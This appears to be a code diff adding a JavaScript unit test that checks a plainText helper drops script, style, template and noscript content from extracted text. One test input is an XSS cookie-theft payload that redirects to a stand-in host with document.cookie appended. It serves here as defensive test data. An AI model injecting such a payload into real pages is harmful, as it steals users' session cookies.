@@ -24,3 +24,15 @@ test('folds every run of XML whitespace to one space, wherever it is', () => {
     assert.equal(literalText(text), expected, JSON.stringify(text));
   }
 });
+
+test('text a browser never shows (scripts, style sheets, templates) is not part of the plain text', () => {
+  assert.equal(
+    plainText('safe<script>location.href="http://x/"+document.cookie</script> description'),
+    'safe description',
+  );
+  assert.equal(plainText('<style>b {color: red}</style>Title <b>bold</b>'), 'Title bold');
+  assert.equal(plainText('a<template><p>hidden</p><template>x</template></template> b'), 'a b');
+  // A script is raw text: a tag-like string inside it ends nothing.
+  assert.equal(plainText('a <SCRIPT>var x = "</b>";</SCRIPT>b'), 'a b');
+  assert.equal(plainText('one<noscript><b>two</b></noscript> three'), 'one three');
+});
